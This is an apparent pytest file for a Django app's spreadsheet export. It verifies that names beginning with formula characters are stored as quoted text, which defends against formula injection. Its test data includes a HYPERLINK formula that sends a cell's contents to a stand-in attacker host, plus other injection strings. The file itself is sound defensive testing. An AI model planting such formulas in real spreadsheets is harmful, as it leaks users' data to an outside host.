"""Every spreadsheet export stores names as text: a name cannot become a formula (formula injection)."""

import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from .planning_kit import client_at, counted, done, refreshed, service_kind

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


def cells(book):
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def test_names_starting_with_formula_characters_come_out_as_text_in_the_visit_report(world, login):
    world = refreshed(world)
    world.alice.first_name, world.alice.last_name = EVIL, "x"
    world.alice.save(update_fields=["first_name", "last_name"])
    world.home_care.name = "+1+2"
    world.home_care.save(update_fields=["name"])
    cleaning = service_kind("cleaning", 45)
    cleaning.name = "@SUM(1,2)\x01"
    cleaning.save(update_fields=["name"])
    today = timezone.localdate()
    done(world, client_at(world, 43.31, 77.25), day=today, services=[(cleaning, 40)], score=8)
    counted()

    response = login(world.heidi).get(reverse("visits:report_export"), {
        "date_from": today.isoformat(), "date_to": today.isoformat(), "unit": world.home_care.pk})
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    assert [c.coordinate for c in cells(book) if c.data_type == "f"] == []
    texts = {c.value: c for c in cells(book) if isinstance(c.value, str)}
    for value in (f"{EVIL} x", "+1+2", "@SUM(1,2)"):
        assert texts[value].data_type == "s" and texts[value].quotePrefix, value
    assert not texts["Visits report"].quotePrefix  # ordinary text is left as it is
